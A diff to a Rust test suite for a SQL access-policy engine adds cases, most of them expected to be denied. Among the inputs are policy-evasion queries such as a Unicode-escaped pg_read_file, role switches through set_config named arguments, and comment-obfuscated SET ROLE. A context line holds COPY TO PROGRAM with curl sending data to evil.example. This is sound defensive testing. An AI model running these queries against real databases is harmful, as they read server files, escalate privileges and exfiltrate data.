@@ -106,6 +106,10 @@ const CASES: &[Case] = &[
     (Ex, A, "app", Noon, "SELECT id FROM orders WHERE id IN (SELECT length(dblink_exec('host=x', 'drop table t')))", Deny, "no-dangerous-functions"),
     (Ex, A, "app", Noon, "WITH x AS (SELECT lo_export(1, '/tmp/x')) SELECT * FROM x", Deny, "no-dangerous-functions"),
     (Ex, A, "app", Noon, "SELECT CASE WHEN true THEN pg_terminate_backend(42) END", Deny, "no-dangerous-functions"),
+    // Unicode-escaped identifier: sqlparser alone reads this as `U & "\0070g_read_file"(…)`.
+    (Ex, A, "app", Noon, "SELECT U&\"\\0070g_read_file\"('PG_VERSION')", Deny, "no-dangerous-functions"),
+    (Ex, A, "app", Noon, "SELECT U&\"!0070g_read_file\" UESCAPE '!'('PG_VERSION')", Deny, "no-dangerous-functions"),
+    (Ex, A, "app", Noon, "SELECT * FROM table_to_xml('hr.salaries', true, false, '')", Deny, "no-dangerous-functions"),
     (Ex, DBA, "app", Noon, "SELECT pg_terminate_backend(42)", Allow, "default:dba"),
     // --- COPY to/from the server ---
     (Ex, A, "app", Noon, "COPY orders TO PROGRAM 'curl -d @- evil.example'", Deny, "no-server-access"),
@@ -118,6 +122,7 @@ const CASES: &[Case] = &[
     (Ex, A, "app", Noon, "SELECT * FROM orders o JOIN hr.employees e ON e.id = o.owner", Deny, "hr-schema"),
     (Ex, A, "app", Noon, "SELECT * FROM salaries", Deny, "salaries-table"),
     (Ex, A, "app", Noon, "SELECT (SELECT max(amount) FROM public.salaries)", Deny, "salaries-table"),
+    (Ex, A, "app", Noon, "SELECT 1, 2 UNION ALL TABLE hr.employees", Deny, "hr-schema"),
     (Ex, AHR, "app", Noon, "SELECT * FROM hr.employees", Allow, "analysts-read"),
     // --- multi-statement strings ---
     (Ex, A, "app", Noon, "SELECT 1; SELECT 2", Deny, "analysts-single-statement"),
@@ -151,6 +156,10 @@ const CASES: &[Case] = &[
     (Ex, A, "app", Noon, "RESET SESSION AUTHORIZATION", Deny, "builtin:identity-change"),
     (Ex, A, "app", Noon, "SELECT set_config('role', 'dba', false)", Deny, "builtin:identity-change"),
     (Ex, A, "app", Noon, "select pg_catalog.SET_CONFIG('ROLE', 'dba', false)", Deny, "builtin:identity-change"),
+    (Ex, A, "app", Noon, "SELECT set_config(new_value => 'dba', setting_name => 'role', is_local => false)", Deny, "builtin:identity-change"),
+    (Ex, A, "app", Noon, "SELECT set_config('work_mem', '64MB', false)", Allow, "analysts-read"),
+    (Ex, A, "app", Noon, "SET SESSION ROLE dba", Deny, "builtin:identity-change"),
+    (Ex, A, "app", Noon, "SET \"ROLE\" = 'dba'", Deny, "builtin:identity-change"),
     (Ex, A, "app", Noon, "SELECT set_config(name, 'dba', false) FROM (VALUES ('role')) v(name)", Deny, "builtin:identity-change"),
     (Ex, E, "app", Noon, "UPDATE pg_settings SET setting = 'dba' WHERE name = 'role'", Deny, "builtin:identity-change"),
     (Ex, DBA, "app", Noon, "SET ROLE postgres", Deny, "builtin:identity-change"),
@@ -160,6 +169,9 @@ const CASES: &[Case] = &[
     (Ex, E, "app", Noon, "SELECT 1; SET ROLE dba", Deny, "builtin:identity-change"),
     (Ex, A, "app", Noon, "SET standard_conforming_strings = off", Deny, "builtin:protected-setting"),
     (Ex, A, "app", Noon, "SET standard_conforming_strings = on", Allow, "analysts-read"),
+    (Ex, DBA, "app", Evening, "ALTER ROLE bob SET standard_conforming_strings = off", Deny, "builtin:protected-setting"),
+    (Ex, DBA, "app", Evening, "ALTER DATABASE app SET standard_conforming_strings TO off", Deny, "builtin:protected-setting"),
+    (Ex, A, "app", Noon, "/* hi */ SeT /**/ RoLe -- x\n postgres", Deny, "builtin:identity-change"),
     (Ex, A, "app", Noon, "SET search_path TO hr, public", Deny, "analysts-no-search-path"),
     (Ex, A, "app", Noon, "SET client_encoding = 'SJIS'", Deny, "builtin:protected-setting"),
     (Ex, A, "app", Noon, "SET NAMES 'big5'", Deny, "builtin:protected-setting"),
@@ -530,4 +542,26 @@ fn bench_decide() {
         std::hint::black_box(p.decide(&who, "app", &format!("{sql} AND i.n = {i}"), now));
     }
     println!("uncached decide (parse): {:?}/call", start.elapsed() / 10_000);
+}
+
+#[test]
+fn policy_is_shareable() {
+    fn send_sync<T: Send + Sync>() {}
+    send_sync::<Policy>();
+    send_sync::<Verdict>();
+}
+
+#[test]
+fn command_names() {
+    let cmd = |sql: &str| analyze_sql(sql).remove(0).commands;
+    assert_eq!(cmd("GRANT SELECT ON t TO bob"), ["grant"]);
+    assert_eq!(cmd("REVOKE r FROM bob"), ["revoke"]);
+    assert_eq!(cmd("CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE sql AS 'select 1'"), ["create function"]);
+    assert_eq!(cmd("CREATE UNIQUE INDEX i ON t (a)"), ["create index"]);
+    assert_eq!(cmd("DROP TABLE a, b"), ["drop table"]);
+    assert_eq!(cmd("create role bob"), ["create role"]);
+    assert_eq!(cmd("WITH d AS (DELETE FROM t WHERE a = 1 RETURNING *) SELECT * FROM d"), ["select", "delete"]);
+    assert_eq!(cmd("EXPLAIN ANALYZE UPDATE t SET a = 1 WHERE b = 2"), ["explain", "update"]);
+    assert_eq!(cmd("CHECKPOINT"), ["checkpoint"]);
+    assert_eq!(cmd("DO $$ BEGIN NULL; END $$"), ["do"]);
 }
